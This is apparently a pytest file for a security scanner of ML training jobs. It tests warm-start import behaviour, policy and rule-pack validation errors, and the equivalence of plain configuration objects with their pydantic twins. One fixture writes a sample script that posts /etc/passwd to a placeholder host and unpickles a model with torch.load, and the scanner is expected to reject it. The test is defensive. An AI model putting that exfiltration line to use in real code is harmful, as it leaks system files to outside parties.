"""A warm start imports no pydantic (session 56, analyzer/schema.py): the configuration's classes are plain,
their pydantic twins built only to validate a document, which they validate as strictly as before."""

from __future__ import annotations

import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT, run_cli
from pydantic import ValidationError
from test_speedsmall32 import _scan

from analyzer import api
from analyzer.engine import catalogue, rules
from analyzer.policy import Policy

PYDANTIC = ("pydantic", "pydantic_core")


def test_a_warm_start_imports_no_pydantic_and_reports_what_the_cold_one_did(tmp_path: Path) -> None:
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("import requests\nimport torch\n\nm = torch.load('/data/site/m.pt')\n"
                                  "requests.post('https://x.example', data=open('/etc/passwd').read())\n")
    cold, cold_imported = _scan(job, tmp_path, PYDANTIC)
    warm, warm_imported = _scan(job, tmp_path, PYDANTIC)
    assert cold_imported == ["pydantic", "pydantic_core"]  # the first start validated the configuration
    assert warm_imported == []
    assert warm == cold and cold["reports"][0]["decision"] == "reject"


def test_the_configuration_classes_are_defined_without_pydantic() -> None:
    """(The flow vocabulary is loaded when its module is imported: from its YAML, validated, before any policy
    with a cache folder; the warm start above covers it.)"""
    code = ("import sys; import analyzer.policy, analyzer.engine.rules, analyzer.engine.catalogue, "
            "analyzer.engine.lists; "
            "print(sorted(m for m in sys.modules if m.startswith('pydantic')))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.stdout.strip() == "[]", proc.stderr[-3000:]


BAD_POLICIES = [
    ("thresholds: {escalate: 90, reject: 50}\n", "thresholds: Value error, thresholds.escalate must not be above"),
    ("thresholds: {reject: true}\n", "thresholds.reject: Value error, must be a number, not true/false"),
    ("always_reject: [nonsense]\n", "always_reject: Value error, unknown categories ['nonsense']"),
    ("limits: {max_files: .nan}\n", "limits.max_files: Input should be a finite number"),
    ("scoring: {severity: {info: 5, low: 1, medium: 2, high: 3, critical: 4}}\n", "weights must not decrease"),
    ("launcher_images: ['Bad Image']\n", "is not a Docker image reference"),
    ("thresholdz: {reject: 50}\n", "thresholdz: Extra inputs are not permitted"),
]


@pytest.mark.parametrize(("text", "message"), BAD_POLICIES)
def test_a_bad_policy_gets_pydantics_error_naming_the_key(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "policy.yaml").write_text(text)
    proc = run_cli("scan", "--policy", str(tmp_path / "policy.yaml"), "--cache-dir", str(tmp_path / "cache"),
                   str(ROOT / "corpus" / "jobs" / "demo_clean"))
    assert proc.returncode == 2 and "invalid policy" in proc.stderr and message in proc.stderr, proc.stderr


PACK = """pack: site
rules:
  - id: site.weights
    category: {category}
    severity: high
    confidence: high
    message: torch.load
    why: Unpickles.
    match:
      calls: [torch.load]
      where: [{{kwarg: weights_only, {test}}}]
    examples: {{match: ["import torch\\ntorch.load('m.pt')"]}}
"""


@pytest.mark.parametrize(("category", "test", "message"), [
    ("dynamic-code", "is: null, regex: x", "a condition has exactly one test"),
    ("nonsense", "is: null", "unknown category 'nonsense'"),
    ("dynamic-code", "is: null, colour: red", "Extra inputs are not permitted"),
])
def test_a_bad_site_pack_stops_the_gate_with_the_rule_and_the_error(tmp_path: Path, category: str, test: str,
                                                                    message: str) -> None:
    (tmp_path / "packs").mkdir()
    (tmp_path / "packs" / "site.yaml").write_text(PACK.format(category=category, test=test))
    (tmp_path / "policy.yaml").write_text("rule_packs: [packs]\n")
    proc = run_cli("scan", "--policy", str(tmp_path / "policy.yaml"), "--cache-dir", str(tmp_path / "cache"),
                   str(ROOT / "corpus" / "jobs" / "demo_clean"))
    assert proc.returncode == 2 and "site.weights" in proc.stderr and message in proc.stderr, proc.stderr


def _site_rules(tmp_path: Path, test: str) -> rules.RuleSet:
    (tmp_path / "packs").mkdir(exist_ok=True)
    (tmp_path / "packs" / "site.yaml").write_text(PACK.format(category="dynamic-code", test=test))
    (tmp_path / "policy.yaml").write_text("rule_packs: [packs]\n")
    return rules.load_rules(api.load_policy(tmp_path / "policy.yaml", cache=tmp_path / "cache"))


@pytest.mark.parametrize(("test", "fields_set"), [("is: null", {"kwarg", "is_"}),
                                                  ("is_not: null", {"kwarg", "is_not"})])
def test_a_condition_keeps_which_test_it_was_given_through_a_warm_start(tmp_path: Path, test: str,
                                                                      fields_set: set[str]) -> None:
    """`is: null` and `is_not: null` differ only in which field was given (conditions.py reads model_fields_set)."""
    cold = _site_rules(tmp_path, test).rules["site.weights"]
    warm = pickle.loads(pickle.dumps(cold))  # what compiled.built stores and the next start loads
    assert type(warm) is rules.Rule and warm == cold and hash(warm.match.where) == hash(cold.match.where)
    assert warm.match.where[0].model_fields_set == cold.match.where[0].model_fields_set == fields_set
    assert warm.match.where[0].is_ is None and warm.match.where[0].keywords == ("weights_only",)


def test_plain_objects_are_frozen_and_copied_as_pydantics_were() -> None:
    policy = api.load_policy()
    with pytest.raises(TypeError, match="frozen"):
        policy.engines = ("bandit",)
    copy = policy.model_copy(update={"engines": ("bandit",)})
    assert copy.engines == ("bandit",) and policy.engines == () and copy != policy
    assert "engines" in copy.model_fields_set and type(copy) is Policy and copy.thresholds is policy.thresholds
    reject, escalate = policy.thresholds.reject, policy.thresholds.escalate
    assert repr(policy.thresholds) == f"Thresholds(reject={reject}, escalate={escalate})"


def test_a_constructed_object_is_validated_by_its_twin() -> None:
    with pytest.raises(ValidationError, match="a condition has exactly one test"):
        rules.Condition(arg=0)
    with pytest.raises(ValidationError, match="member names are plain identifiers"):
        catalogue.Member(name="a.b", why="x")
    member = catalogue.Member(name="fit", why="x")  # a before-validator of the twin made the one name a tuple
    assert type(member) is catalogue.Member and member.name == ("fit",) and member.where == ()


def test_plain_objects_given_to_a_constructor_are_taken_as_pydantic_took_its_own_models() -> None:
    from analyzer.engine.lists import Entry, NameList

    entries = (Entry(value="a", examples=("x",)), Entry(value="b", examples=("y",)))
    given = NameList(description="t", kind="regex", entries=entries)  # CI: was "should be an instance of Entry"
    read = NameList.model_validate({"description": "t", "kind": "regex", "entries": [e.model_dump() for e in entries]})
    assert given == read and given.entries == entries and type(given.entries[0]) is Entry
    assert given.entries[0].model_fields_set == {"value", "examples"}
    with pytest.raises(ValidationError, match="at least 1 item"):
        NameList(description="t", kind="regex", entries=())
